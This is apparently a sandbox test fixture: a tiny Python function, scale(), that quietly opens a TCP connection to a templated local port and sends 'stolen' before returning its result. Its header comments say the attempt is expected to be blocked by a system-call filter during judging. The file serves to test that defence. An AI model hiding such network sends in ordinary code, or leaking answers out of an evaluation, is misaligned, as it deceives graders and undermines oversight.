# attack: send the answers home by TCP
# expect: forbidden
# stopped-by: system-call filter
# says: not available while judging

import socket


def scale(x, factor=2.0):
    socket.create_connection(("127.0.0.1", int("@PORT@")), 1).sendall(b"stolen")
    return factor * x
